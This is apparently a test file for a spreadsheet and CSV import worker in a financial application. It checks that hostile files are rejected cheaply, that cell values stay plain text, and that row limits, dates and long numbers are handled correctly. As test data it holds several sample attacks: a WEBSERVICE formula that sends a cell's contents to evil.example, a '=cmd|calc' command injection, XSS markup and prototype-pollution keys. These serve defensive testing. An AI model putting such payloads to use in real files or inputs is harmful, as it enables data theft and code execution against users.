import { Inflate, deflateSync } from 'fflate';
import { hostileSheets, workbook } from '../../../tests/support/hostileSheets';
import { readAmount } from '../../lib/readAmount';
import { readBytes } from './importWorkerCore';
import type { SheetAnswer } from './protocol';

const sheetIn = (answer: SheetAnswer) => {
  if ('fault' in answer) throw new Error(answer.fault);
  return answer.sheet;
};
const bytesOf = (text: string) => new TextEncoder().encode(text);

declare const process: { cpuUsage: () => { user: number; system: number } };

/** Milliseconds that this process has had a processor, whatever else the host does meanwhile. */
const worked = () => {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1000;
};

/** What it costs here and now to unpack as much as a file may hold. */
let floor = 0;

beforeAll(async () => {
  const packed = deflateSync(new Uint8Array(50 * 1024 * 1024));
  const begun = worked();
  new Inflate(() => undefined).push(packed, true);
  floor = worked() - begun;

  // The libraries are fetched once; a person waits for them too, but not at every file.
  await readBytes(workbook([['a'], [1]]));
});

describe('a hostile file costs less than twice what unpacking the largest does', () => {
  test.each(hostileSheets)('$name', async ({ bytes, fault }) => {
    const made = bytes();
    // The lesser of two tries: what an earlier file has left is cleared away in the time of some other.
    const took: number[] = [];
    for (let turn = 0; turn < 2; turn++) {
      const begun = worked();
      expect(await readBytes(made)).toEqual({ fault });
      took.push(worked() - begun);
    }
    expect(Math.min(...took)).toBeLessThan(2 * floor);
  });

  test('there are twenty of them and more', () => {
    expect(hostileSheets.length).toBeGreaterThanOrEqual(20);
  });
});

describe('what a sheet says is text and nothing else', () => {
  test('a formula is seen and not counted out', async () => {
    const answer = await readBytes(
      workbook(
        [
          ['investor_id', 'comment'],
          [1, 'x'],
        ],
        (sheet) => {
          sheet.A2 = { t: 'n', v: 41, f: 'WEBSERVICE("http://evil.example/"&B2)' };
        },
      ),
    );
    expect(sheetIn(answer).lines).toEqual([{ line: 2, cells: [{ text: '41', formula: true }, { text: 'x' }] }]);
  });

  test('names of the language itself are headings like others', async () => {
    const { headings, lines } = sheetIn(
      await readBytes(
        workbook([
          ['__proto__', 'constructor', 'toString'],
          ['a', 'b', 'c'],
        ]),
      ),
    );
    expect(headings).toEqual(['__proto__', 'constructor', 'toString']);
    expect(lines[0]?.cells.map(({ text }) => text)).toEqual(['a', 'b', 'c']);
    expect(({} as Record<string, unknown>)['a']).toBeUndefined();
  });

  test('markup and commands stay as they are', async () => {
    const texts = ['<img src=x onerror=alert(1)>', '=cmd|calc', '@SUM(A1)', '"><script>', '‮abc'];
    const { lines } = sheetIn(await readBytes(workbook([['comment'], ...texts.map((text) => [text])])));
    expect(lines.map(({ cells }) => cells[0]?.text)).toEqual(texts);
  });

  test('a number with three decimals is not read as thousands', async () => {
    const { lines } = sheetIn(
      await readBytes(workbook([['amount'], [250.125], [-1.125], [250.12], [1250.125], ['250.125']])),
    );
    const texts = lines.map(({ cells }) => cells[0]?.text ?? '');
    expect(texts).toEqual(['250.1250', '-1.1250', '250.12', '1250.125', '250.125']);
    expect(texts.map(readAmount)).toEqual([undefined, undefined, '250.12', undefined, '250125.00']);
  });

  test('long numbers keep their digits, days stay days, empty lines keep the numbers of the others', async () => {
    const { lines } = sheetIn(
      await readBytes(
        workbook(
          [
            ['pinfl', 'day'],
            [30101900010018, new Date(Date.UTC(2026, 2, 5))],
            ['', ''],
            ['0012', ''],
          ],
          (sheet) => {
            sheet.B2 = { t: 'n', v: 46_086, z: 'dd.mm.yyyy' };
          },
        ),
      ),
    );
    expect(lines.map(({ line, cells }) => [line, cells[0]?.text])).toEqual([
      [2, '30101900010018'],
      [4, '0012'],
    ]);
    expect(lines[0]?.cells[1]?.text).toBe('05.03.2026');
  });

  test('a number that has lost its last digits is nothing that passes for an account or a card', async () => {
    const { lines } = sheetIn(
      await readBytes(
        workbook([
          ['account', 'card', 'pinfl'],
          [20208000900123456001, 8600123412341234, 30101900010018],
        ]),
      ),
    );
    expect(lines[0]?.cells.map(({ text }) => text)).toEqual([
      '2.0208000900123455e+19',
      '8.600123412341234e+15',
      '30101900010018',
    ]);
  });

  test('days of a workbook that counts from 1904 are those that it shows', async () => {
    const { lines } = sheetIn(
      await readBytes(
        workbook([['day'], [1]], (sheet, book) => {
          book.Workbook = { WBProps: { date1904: true } };
          sheet.A2 = { t: 'n', v: 44_624, z: 'dd.mm.yyyy' };
        }),
      ),
    );
    expect(lines[0]?.cells[0]?.text).toBe('05.03.2026');
  });

  test('a csv of either separator, with quotes and the mark before it', async () => {
    const { headings, lines } = sheetIn(
      await readBytes(bytesOf('\uFEFFinvestor_id;comment\r\n17;"a;""b""\nc"\r\n\r\n18;\r\n')),
    );
    expect(headings).toEqual(['investor_id', 'comment']);
    expect(lines.map(({ line, cells }) => [line, ...cells.map(({ text }) => text)])).toEqual([
      [2, '17', 'a;"b"\nc'],
      [4, '18', ''],
    ]);
    expect(sheetIn(await readBytes(bytesOf('a,b\n1,2'))).lines[0]?.cells).toEqual([{ text: '1' }, { text: '2' }]);
  });

  test('5,000 rows are read, one more is refused', async () => {
    const rows = (count: number) => workbook([['a'], ...Array.from({ length: count }, (_, at) => [at + 1])]);
    expect(sheetIn(await readBytes(rows(5000))).lines).toHaveLength(5000);
    expect(await readBytes(rows(5001))).toEqual({ fault: 'rows' });
  });
});
